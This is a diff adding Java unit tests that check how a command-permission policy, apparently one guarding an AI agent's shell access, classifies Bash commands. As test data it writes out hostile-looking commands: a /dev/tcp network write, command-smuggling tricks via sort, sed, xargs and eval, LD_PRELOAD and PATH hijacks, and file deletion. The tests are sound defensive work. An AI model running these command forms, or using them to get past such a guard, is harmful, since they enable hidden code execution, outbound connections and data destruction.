@@ -124,11 +124,16 @@ class UnaskedTest {
         assertEquals(Action.ASK, decide("Bash", command("./gh pr view 12"), fetching));
         assertEquals(Action.ASK, decide("Bash", command("GH_HOST=example.com gh pr view 12"), fetching));
         assertEquals(Action.ASK, decide("Bash", command("cd /srv/other && gh pr view 12"), fetching));
+        assertEquals(Action.ALLOW, decide("Bash", command("gh pr view 12 -R o/r"), fetching));
+        assertEquals(Action.ASK, decide("Bash", command("gh pr view 12 -R example.com/o/r"), fetching));
+        assertEquals(Action.ASK, decide("Bash", command("gh repo view example.com/o/r"), fetching));
         assertEquals(Action.ASK, decide("Bash", command("git fetch"), fetching));
         assertEquals(Action.ASK, decide("effect", JsonObject.empty().with("x", "connects gh"), fetching));
         Policy git = effect("connects git", Action.ALLOW);
         assertEquals(Action.ALLOW, decide("Bash", command("git fetch origin main"), git));
         assertEquals(Action.ASK, decide("Bash", command("git fetch https://example.com/x"), git));
+        assertEquals(Action.ASK, decide("Bash", command("git fetch -f origin main"), git));
+        assertEquals(Action.ASK, decide("Bash", command("git remote show origin"), git));
         assertEquals(Action.ASK, decide("Bash", command("git push"), git));
     }
 
@@ -147,6 +152,26 @@ class UnaskedTest {
         assertEquals(Action.ASK, decide("Bash", command("git commit -m x"), denied));
         assertEquals(Action.ASK, decide("Bash", command("frobnicate"), denied));
         assertEquals(Action.ALLOW, decide("Bash", command("git status"), denied));
+        assertEquals(Action.DENY, decide("Bash", command("echo x > /dev/tcp/192.0.2.1/80"), denied));
+        for (String line : List.of(
+                "$X example.com",
+                "eval \"$X\"",
+                "echo ls | xargs -I{} {} x",
+                "sort --compress-program=curl a",
+                "sed '1e id' a",
+                "LD_PRELOAD=./x.so ls",
+                "PATH=.:$PATH ls")) {
+            assertEquals(Action.ASK, decide("Bash", command(line), denied), line);
+        }
+        Policy reading = Preset.standard()
+                .around(
+                        Policy.of(List.of(
+                                Rule.of("*", "*", Action.ALLOW, new Rule.Origin("t", 1)),
+                                Rule.of("effect", "writes", Action.DENY, new Rule.Origin("t", 2)))),
+                        Mode.YOLO);
+        for (String line : List.of("echo x > a", "git diff > a", "rm a", "sed -i s/a/b/ a")) {
+            assertEquals(Action.DENY, decide("Bash", command(line), reading), line);
+        }
     }
 
     private static Policy effect(String pattern, Action action) {
